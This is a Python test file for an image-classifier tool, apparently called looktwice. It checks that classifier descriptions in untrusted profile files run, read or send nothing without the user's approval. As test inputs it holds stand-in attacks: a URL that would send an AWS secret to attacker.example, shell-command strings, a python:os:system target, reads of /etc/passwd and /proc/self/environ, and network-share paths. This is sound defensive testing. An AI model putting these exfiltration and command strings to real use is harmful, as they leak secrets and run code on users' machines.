"""A file from a stranger runs, reads and sends nothing until the user approves it."""

from __future__ import annotations

import json
import os
import shutil
import sys
import tomllib
from collections.abc import Mapping
from functools import cache
from importlib.resources import files
from io import StringIO
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pytest
from support.errors import code_in, coded
from support.workshop import call, write_pictures

import looktwice as lt
from looktwice.classifiers import registry
from looktwice.classifiers.registry import PROTOCOLS, connect, resolve
from looktwice.classifiers.secrets import Secrets
from looktwice.errors import UntrustedError
from looktwice.images.collection import labelled

DEMO = Path(str(files("looktwice") / "demo"))
WATCHED = (
    "socket.connect",
    "socket.getaddrinfo",
    "socket.sendto",
    "subprocess.",
    "os.exec",
    "os.posix_spawn",
    "os.fork",
    "os.system",
)
SEEN: list[str] = []
"""What Python reports of processes, connections and the stranger's module."""


def _watch(event: str, details: tuple[object, ...]) -> None:
    if event.startswith(WATCHED) or (event == "import" and "evilmod" in str(details[0])):
        SEEN.append(event)


sys.addaudithook(_watch)

EVIL = {
    "command": "command:sh -c 'touch ran' {image}",
    "python": "python:evilmod:f",
    "http": "http://attacker.example/?x=${AWS_SECRET_ACCESS_KEY}",
    "file": "evil.toml",
    "chat": "openai:gpt-5-mini?labels=labels.txt",
    "aws": "rekognition:",
    "plugin": "plugin:whatever",
}


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The data folder of a user who has approved nothing, in whose current folder a stranger's files are."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "very-secret-value")
    fitted()
    home = tmp_path / "received"
    home.mkdir()
    monkeypatch.chdir(home)
    (home / "evilmod.py").write_text("open('ran', 'w').close()\ndef f(image): return 'ant'\n")
    (home / "evil.toml").write_text('connector = "command"\ncommand = "touch ran"\n')
    (home / "labels.txt").write_text("ant\nbee\n")
    write_pictures(home / "pictures.npz", 20)
    return tmp_path / "data"


@pytest.fixture
def seen(data: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What was imported, started, resolved, connected or read from the environment."""
    SEEN.clear()
    monkeypatch.setattr(Secrets, "read", lambda _, name: pytest.fail(f"the variable {name} was read"))
    return SEEN


@cache
def fitted() -> dict[str, object]:
    """A sound profile of the embedded classifier."""
    with TemporaryDirectory() as folder, lt.Model(DEMO / "fashion.toml") as model:
        model.fit(labelled(DEMO / "pictures.npz")[:60], views="mirror")
        model.save(Path(folder) / "profile.json")
        values: dict[str, object] = json.loads((Path(folder) / "profile.json").read_text())
    return values


def profile_of(description: str, path: Path = Path("profile.json")) -> Path:
    """A profile as a stranger would write it: sound but for the classifier that it names."""
    path.write_text(json.dumps({**fitted(), "classifier": description}))
    return path


COMMANDS: Mapping[str, tuple[str, ...]] = {
    "look": ("look", "pictures.npz"),
    "dry run": ("look", "pictures.npz", "--dry-run"),
    "score": ("score", "pictures.npz", "-o", "out.csv"),
    "ray": ("score", "pictures.npz", "-o", "out", "--engine", "ray"),
    "evaluate": ("evaluate", "pictures.npz"),
    "serve": ("serve",),
}


@pytest.mark.parametrize("description", EVIL.values(), ids=EVIL)
@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)
def test_a_command_does_nothing_of_what_a_strangers_profile_says(
    words: tuple[str, ...], description: str, seen: list[str]
) -> None:
    profile_of(description)
    done = call(*words)
    assert (done.returncode, seen, Path("ran").exists()) == (1, [], False), done.stderr
    assert code_in(done.stderr) == "classifier-untrusted"
    assert "very-secret-value" not in done.stderr


@pytest.mark.parametrize("description", EVIL.values(), ids=EVIL)
def test_a_model_is_not_loaded_from_a_strangers_profile(description: str, seen: list[str]) -> None:
    path = profile_of(description)
    with pytest.raises(UntrustedError, check=coded("classifier-untrusted")):
        lt.Model.load(path)
    assert (seen, Path("ran").exists()) == ([], False)


@pytest.mark.parametrize("description", EVIL.values(), ids=EVIL)
@pytest.mark.parametrize(
    "words",
    [
        ("report", "-o", "report.html"),
        ("plan", "--max-error", "0.1", "-p", "profile.json"),
        ("borrow", "profile.json", "-c", str(DEMO / "fashion.toml"), "-o", "new.json"),
    ],
    ids=lambda words: words[0],
)
def test_what_asks_nobody_takes_only_the_figures_of_a_strangers_profile(
    words: tuple[str, ...], description: str, seen: list[str]
) -> None:
    profile_of(description)
    done = call(*words)
    assert "Traceback" not in done.stderr
    assert (seen, Path("ran").exists()) == ([], False)
    assert "sh -c" not in done.stdout + done.stderr


def test_a_classifier_that_the_user_names_takes_the_place_of_a_strangers(data: Path) -> None:
    profile_of(EVIL["python"])
    done = call("look", "pictures.npz", "-c", DEMO / "fashion.toml", "--on-drift", "accept")
    assert done.returncode == 0, done.stderr
    with lt.Model.load("profile.json", DEMO / "fashion.toml") as model:
        model.save("copy.json")
    with pytest.raises(UntrustedError):  # saving approves what was named, not what the profile says
        lt.Model.load("copy.json")
    assert not Path("ran").exists()


def test_trust_shows_what_it_approves_and_then_the_profile_works(data: Path) -> None:
    profile = profile_of(EVIL["python"])
    shown = call("trust", profile, "--yes")
    assert shown.returncode == 0, shown.stderr
    assert "run python:evilmod:f" in shown.stdout
    assert not Path("ran").exists()
    with pytest.raises(lt.LookTwiceError, check=coded("profile-mismatch")):  # connected now, and found to be another
        lt.Model.load(profile)
    assert Path("ran").exists()
    (approval,) = (data / "looktwice" / "trusted").iterdir()
    approval.unlink()
    with pytest.raises(UntrustedError):
        lt.Model.load(profile)


def test_trust_approves_nothing_unless_somebody_agrees(data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    profile_of(EVIL["command"])
    monkeypatch.setattr(sys, "stdin", StringIO(""))
    assert call("trust", "profile.json").returncode == 1
    assert not (data / "looktwice" / "trusted").exists()


def test_trust_needs_nothing_for_a_model_that_can_do_no_harm(data: Path) -> None:
    done = call("trust", profile_of(str(DEMO / "fashion.toml")))
    assert done.returncode == 0
    assert not (data / "looktwice" / "trusted").exists()


def brightness(image: np.ndarray) -> str:
    """A function that a user gives."""
    return "bright" if image.mean() > 127 else "dark"


def test_a_profile_that_was_saved_here_is_approved(data: Path) -> None:
    rng = np.random.default_rng(0)
    images = [rng.integers(0, 2, (8, 8, 3), np.uint8) * shade for shade in (50, 255) for _ in range(10)]
    with lt.Model(brightness) as model:
        model.fit(images, [brightness(image) for image in images], views="gaussian:0.1*2")
        model.save("mine.json")
    with lt.Model.load("mine.json") as again:
        assert again.look(images[0]).label == "dark"


def test_fit_approves_what_it_was_given(data: Path) -> None:
    Path("mine.py").write_text("def f(image): return 'ant' if image[0, 0, 0] % 2 else 'bee'\n")
    images = np.random.default_rng(0).integers(0, 256, (40, 16, 16, 3), np.uint8)
    np.savez("mine.npz", images=images, labels=np.arange(40) % 2, class_names=np.array(["ant", "bee"]))
    done = call("fit", "mine.npz", "-c", "python:mine:f", "--views", "mirror")
    assert done.returncode == 0, done.stderr
    done = call("look", "pictures.npz")
    assert done.returncode == 0, done.stderr


def approved(description: str) -> bool:
    try:
        registry.trusted(description, Path("profile.json"))
    except UntrustedError:
        return False
    return True


def test_an_approval_is_of_what_is_sent_whatever_the_pace_and_the_reading(data: Path) -> None:
    api = Path("api.toml")
    text = 'connector = "http"\nurl = "https://api.example.com/{model}"\nvalues = { model = "birds" }\n'
    api.write_text(text)
    assert not approved("api.toml")
    registry.approve(resolve("api.toml"))
    assert approved("api.toml")
    api.write_text(text + 'concurrency = 2\ntimeout = 5.0\nlabel = "name"\nrename = { a = "b" }\n')
    assert approved("api.toml")
    api.write_text(text + 'headers = { x = "${HOME}" }\n')
    assert not approved("api.toml")
    api.write_text(text.replace("api.example", "attacker.example"))
    assert not approved("api.toml")


@pytest.mark.parametrize("description", ["python:evilmod:f", "command:./classify {image}", "plugin:x"])
def test_the_same_words_in_another_folder_are_approved_anew(
    description: str, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    registry.approve(resolve(description))
    assert approved(description)
    monkeypatch.chdir(tmp_path)
    assert not approved(description)


def test_a_network_address_is_approved_wherever_the_profile_lies(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    registry.approve(resolve("https://api.example.com/classify"))
    monkeypatch.chdir(tmp_path)
    assert approved("https://api.example.com/classify")


@pytest.mark.parametrize("change", ['labels = "/proc/self/environ"', 'labels = "link.txt"', 'model = "../model.onnx"'])
def test_an_onnx_model_is_harmless_as_long_as_its_files_lie_beside_it(change: str, data: Path) -> None:
    shutil.copy(DEMO / "fashion.onnx", "model.onnx")
    plain = (DEMO / "fashion.toml").read_text().replace("fashion.onnx", "model.onnx")
    Path("model.toml").write_text(plain)
    assert approved("onnx:model.onnx")
    assert approved("model.toml")
    assert connect("onnx:model.onnx").labels
    Path("link.txt").symlink_to("/etc/passwd")
    name = change.partition(" ")[0]
    settings = {key: value for key, value in tomllib.loads(plain).items() if key != name}
    Path("model.toml").write_text("\n".join([change, *(f"{k} = {json.dumps(v)}" for k, v in settings.items())]))
    assert not approved("onnx:model.onnx")
    assert not approved("model.toml")


@pytest.mark.parametrize(
    "text", ["\\\\attacker\\share\\x.toml", "//attacker/share/x.toml", "onnx:\\\\attacker\\m.onnx"]
)
def test_a_description_on_a_network_drive_is_not_even_read(text: str, data: Path) -> None:
    with pytest.raises(UntrustedError, check=coded("classifier-untrusted")):
        registry.trusted(text, Path("profile.json"))


SHOWN = {
    "http://attacker.example/?url=https://api.openai.com": ["send pictures to http://attacker.example/?url="],
    "http://h.example/?x=${AWS_SECRET_ACCESS_KEY}": ["variables AWS_SECRET_ACCESS_KEY"],
    "oip+https://h.example/model": ["send pictures to https://h.example/model"],
    "openai:gpt-5-mini?labels=labels.txt": ["api.openai.com", "OPENAI_BASE_URL, OPENAI_API_KEY"],
    "openai:gpt?labels=/etc/passwd&url=http://h.example&key=HOME": ["to http://h.example", "HOME", "read /etc/passwd"],
    "openai+http://h.example/v1?labels=l.txt#m": ["send pictures to http://h.example/v1"],
    "openai-responses:m?labels=l.txt": ["api.openai.com"],
    "anthropic:m?labels=l.txt": ["api.anthropic.com", "ANTHROPIC_API_KEY"],
    "gemini:m?labels=l.txt": ["generativelanguage.googleapis.com", "GEMINI_API_KEY"],
    "preset:tfserving?host=h.example&model=${HOME}": ["http://h.example/v1/models/${HOME}:predict", "variables HOME"],
    "preset:google-vision": ["vision.googleapis.com", "GOOGLE"],
    "rekognition:": ["rekognition of AWS", "AWS_"],
    "sagemaker:mine": ["sagemaker of AWS"],
    "command:sh -c 'curl x'\n": ["run \"sh -c 'curl x'\\n\" with your rights"],
    "python:os:system": ["run python:os:system"],
    "plugin:x": ["another package, plugin:x"],
}


@pytest.mark.parametrize(("text", "parts"), SHOWN.items())
def test_a_reach_tells_programs_variables_and_hosts(text: str, parts: list[str], seen: list[str]) -> None:
    told = "\n".join(registry.reach(resolve(text)).lines())
    assert [part for part in parts if part not in told] == []
    assert seen == []


@pytest.mark.parametrize("scheme", sorted({*PROTOCOLS} - {"onnx", "preset"}))
def test_every_connector_but_that_of_local_models_needs_approval(scheme: str, data: Path) -> None:
    Path("api.toml").write_text(f'connector = "{scheme}"\n')
    assert not approved("api.toml")


def test_where_approvals_can_be_neither_stored_nor_read_nothing_is_approved(data: Path) -> None:
    (data / "looktwice" / "trusted").mkdir(parents=True)
    (data / "looktwice").chmod(0)
    root = os.geteuid() == 0  # whom rights do not stop
    try:
        if root:
            os.seteuid(65534)
        registry.remember("python:evilmod:f")
        assert not approved("python:evilmod:f")
    finally:
        if root:
            os.seteuid(0)
        (data / "looktwice").chmod(0o700)
    assert list((data / "looktwice" / "trusted").iterdir()) == []
